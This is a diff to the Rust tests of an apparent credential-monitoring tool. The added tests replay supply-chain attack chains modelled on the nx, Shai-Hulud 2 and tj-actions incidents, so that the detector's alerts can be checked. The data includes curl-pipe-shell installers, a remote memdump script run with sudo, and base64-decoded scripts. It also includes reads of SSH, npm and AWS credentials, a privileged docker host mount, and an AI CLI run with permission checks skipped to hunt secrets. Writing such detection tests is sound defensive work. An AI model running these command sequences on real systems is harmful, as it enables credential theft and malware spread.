@@ -596,10 +596,14 @@ fn exec_rules_match_names_arguments_and_command_lines() {
         (&["sudo", "-n", "true"], Some("sudo-non-interactive")),
         (&["sudo", "-En", "true"], Some("sudo-non-interactive")),
         (&["sudo", "--preserve-env", "make"], None),
+        (&["sudo", "-u", "root", "-n", "id"], Some("sudo-non-interactive")),
+        (&["sudo", "find", "/", "-name", "id_rsa"], None),
         (&["docker", "run", "--privileged", "--volume=/:/host", "alpine"], Some("docker-privileged-host-root")),
         (&["docker", "run", "--privileged", "-v", "/srv:/srv", "alpine"], None),
         (&["git", "push", "-u", "origin", "shai-hulud"], Some("git-push-from-package")),
         (&["git", "status"], None),
+        (&["git", "-C", "/tmp/repo", "push", "origin"], Some("git-push-from-package")),
+        (&["git", "stash", "push"], None),
         (&["gh", "repo", "create", "x", "--public"], Some("gh-repo-create")),
         (&["kubectl", "get", "secrets", "-A", "-o", "json"], Some("kubectl-get-secrets")),
         (&["kubectl", "get", "pods", "-A"], None),
@@ -813,6 +817,19 @@ fn the_manager_extracting_files_is_not_persistence() {
         write_flags(),
     );
     assert_eq!(run.one().rule.id, "python-pth-write");
+    // A nested "manager" may be package code: Bun running a payload is not Bun installing.
+    run.exec(300, 1, &["npm", "install"], &[])
+        .spawn(301, 300, &["sh", "-c", "bun bun_environment.js"], POSTINSTALL)
+        .spawn(302, 301, &["bun", "bun_environment.js"], &[])
+        .open_full(302, "x", Some("/home/alice/app/.github/workflows/formatter_1.yml"), 3, write_flags())
+        .open(302, "/home/alice/.npmrc");
+    let alerts = run.take();
+    let seen: Vec<(&str, Severity)> = alerts.iter().map(|a| (a.rule.id.as_str(), a.rule.severity)).collect();
+    assert_eq!(seen, [("github-workflow-write", Severity::Critical), ("npm-registry-token", Severity::High)]);
+    assert_eq!(alerts[0].package.manager, "bun");
+    // A nested `bun install` is still a manager reading its configuration.
+    run.spawn(303, 301, &["bun", "install"], &[]).open(303, "/home/alice/.npmrc");
+    assert_eq!(run.one().rule.severity, Severity::Low);
 }
 
 #[test]
@@ -882,6 +899,23 @@ fn blocked_events_say_so() {
     assert_eq!((alert.rule.id.as_str(), alert.event.outcome.as_str()), ("aws-credentials", "blocked"));
     assert_eq!(alert.credwatch.enforcement, "kernel");
     assert_eq!(alert.file.unwrap().path, "/home/alice/.aws/credentials");
+
+    // Killed while doing what an actor may do (a kernel without the actor's exemption): told.
+    run.send(
+        100,
+        EventData::Open(Open {
+            tid: 100,
+            syscall: "openat".into(),
+            dirfd: AT_FDCWD,
+            path: "/home/alice/.npmrc".into(),
+            ret: -4,
+            blocked: true,
+            ..Open::default()
+        }),
+    );
+    let alert = run.one();
+    assert_eq!((alert.rule.id.as_str(), alert.rule.severity), ("npm-registry-token", Severity::High));
+    assert_eq!(alert.event.outcome, "blocked");
 }
 
 #[test]
@@ -933,6 +967,7 @@ fn a_sweep_is_one_alert_and_folds_the_rest() {
     assert_eq!(sweep.categories, ["cloud", "registry", "ssh"]);
     assert_eq!(sweep.rules, ["aws-credentials", "npm-registry-token", "ssh-private-keys"]);
     assert_eq!((sweep.folded, sweep.window_s, sweep.is_final), (0, 30, false));
+    assert_eq!(sweep.files, ["/home/alice/.npmrc", "/home/alice/.aws/credentials", "/home/alice/.ssh/id_ed25519"]);
     assert!(alert.credwatch.rotate.iter().any(|r| r.starts_with("AWS")));
     assert!(alert.credwatch.rotate.iter().any(|r| r.starts_with("Assume every credential")));
     // Later credential alerts of the tree, by any member, are folded.
@@ -957,6 +992,8 @@ fn a_sweep_is_one_alert_and_folds_the_rest() {
         sweep.folded_by_category,
         BTreeMap::from([("docker".into(), 1), ("kubernetes".into(), 1), ("secrets".into(), 2)])
     );
+    assert_eq!(sweep.files.len(), 6);
+    assert_eq!(sweep.files[5], "/home/alice/.vault-token");
     assert_eq!(summary[0].process.pid, 102);
     assert!(summary[0].credwatch.rotate.iter().any(|r| r.starts_with("Vault")));
     assert!(run.engine.flush().is_empty());
@@ -1020,4 +1057,113 @@ fn blocked_reads_are_not_folded_into_a_sweep() {
         }),
     );
     assert_eq!(run.one().event.outcome, "blocked");
+}
+
+/// The rule ids `run` fired since the last take, in order.
+fn ids(run: &mut Run) -> Vec<String> {
+    run.take().into_iter().map(|a| a.rule.id).collect()
+}
+
+#[test]
+fn the_nx_chain() {
+    let mut run = Run::new();
+    let nx = &[("npm_package_name", "nx"), ("npm_package_version", "21.5.0"), ("npm_lifecycle_event", "postinstall")];
+    run.exec(100, 1, &["npm", "install"], &[])
+        .spawn(101, 100, &["sh", "-c", "node telemetry.js"], nx)
+        .spawn(102, 101, &["node", "telemetry.js"], &[])
+        .spawn(103, 102, &["gh", "auth", "token"], &[])
+        .spawn(104, 102, &["npm", "whoami"], &[])
+        .open(104, "/home/alice/.npmrc")
+        .open(102, "/home/alice/.npmrc")
+        .spawn(105, 102, &["claude", "--dangerously-skip-permissions", "-p", "inventory"], &[])
+        .spawn(106, 105, &["find", "/home/alice", "-name", "*.env"], &[])
+        .open(106, "/home/alice/app/.env")
+        .open(106, "/home/alice/.ethereum/keystore/UTC--2025-01-01T00-00-00.0Z--ab")
+        .open(106, "/home/alice/.ssh/id_rsa")
+        .open_full(102, "/tmp/inventory.txt", Some("/tmp/inventory.txt"), 3, write_flags())
+        .open_full(102, "/home/alice/.bashrc", Some("/home/alice/.bashrc"), 3, (libc::O_WRONLY | libc::O_APPEND) as u64)
+        .spawn(107, 102, &["gh", "repo", "create", "s1ngularity-repository", "--public"], &[]);
+    assert_eq!(
+        ids(&mut run),
+        [
+            "gh-auth-token",
+            "npm-token-use",
+            "npm-registry-token", // npm whoami's own read: low
+            "npm-registry-token", // the payload's read: high
+            "ai-cli-claude-unsafe",
+            "dotenv-files",
+            "credential-sweep", // registry, env-files, wallets
+            "shell-rc-write",
+            "gh-repo-create",
+        ]
+    );
+    let summary = run.engine.flush();
+    assert_eq!(summary[0].credwatch.sweep.as_ref().unwrap().folded_by_category, BTreeMap::from([("ssh".into(), 1)]));
+}
+
+#[test]
+fn the_shai_hulud_2_chain() {
+    let mut run = Run::new();
+    let hook = &[("npm_package_name", "evil"), ("npm_lifecycle_event", "preinstall")];
+    run.exec(100, 1, &["npm", "install"], &[])
+        .spawn(101, 100, &["sh", "-c", "node setup_bun.js"], hook)
+        .spawn(102, 101, &["node", "setup_bun.js"], &[])
+        .spawn(103, 102, &["bash", "-c", "curl -fsSL https://bun.sh/install | bash"], &[])
+        .spawn(104, 103, &["bash"], &[])
+        .open_full(104, "/home/alice/.bun/bin/bun", Some("/home/alice/.bun/bin/bun"), 3, write_flags())
+        .spawn(105, 102, &["/home/alice/.bun/bin/bun", "bun_environment.js"], &[])
+        .open_full(105, "/tmp/trufflehog", Some("/tmp/trufflehog"), 3, write_flags())
+        .spawn(106, 105, &["/tmp/trufflehog", "filesystem", "/home/alice"], &[])
+        .spawn(107, 105, &["sudo", "-n", "true"], &[])
+        .spawn(108, 105, &["docker", "run", "--rm", "--privileged", "-v", "/:/host", "ubuntu", "bash"], &[])
+        .open_full(
+            105,
+            "/home/alice/app/.github/workflows/discussion.yaml",
+            Some("/home/alice/app/.github/workflows/discussion.yaml"),
+            3,
+            write_flags(),
+        )
+        .spawn(109, 105, &["npm", "publish", "/tmp/pkg.tgz"], &[]);
+    assert_eq!(
+        ids(&mut run),
+        [
+            "curl-pipe-shell",
+            "downloaded-bun",
+            "trufflehog",
+            "exec-of-written-file", // the trufflehog it downloaded
+            "sudo-non-interactive",
+            "docker-privileged-host-root",
+            "github-workflow-write",
+            "npm-publish-from-package",
+        ]
+    );
+}
+
+#[test]
+fn the_tj_actions_chain() {
+    let mut run = Run::new();
+    run.exec(100, 1, &["npm", "ci"], &[])
+        .spawn(101, 100, &["node", "index.js"], POSTINSTALL)
+        .spawn(102, 101, &["bash", "-c", "echo aGk= | base64 -d > /tmp/run.sh && bash /tmp/run.sh"], &[])
+        .spawn(103, 102, &["base64", "-d"], &[])
+        .open_full(103, "/tmp/run.sh", Some("/tmp/run.sh"), 1, write_flags())
+        .spawn(104, 102, &["bash", "/tmp/run.sh"], &[])
+        .spawn(
+            105,
+            104,
+            &[
+                "bash",
+                "-c",
+                "curl -sSf https://gist.githubusercontent.com/x/raw/memdump.py | sudo python3 | tr -d '\\0'",
+            ],
+            &[],
+        )
+        .spawn(106, 105, &["sudo", "python3"], &[])
+        .open(106, "/proc/1733/maps")
+        .open(106, "/proc/1733/mem");
+    syscall(&mut run, 106, "ptrace", Some("PTRACE_ATTACH"), Some(1733), false);
+    assert_eq!(
+        ids(&mut run),
+        ["exec-of-written-file", "curl-pipe-shell", "proc-environ-mem", "proc-environ-mem", "ptrace-attach"]
+    );
 }
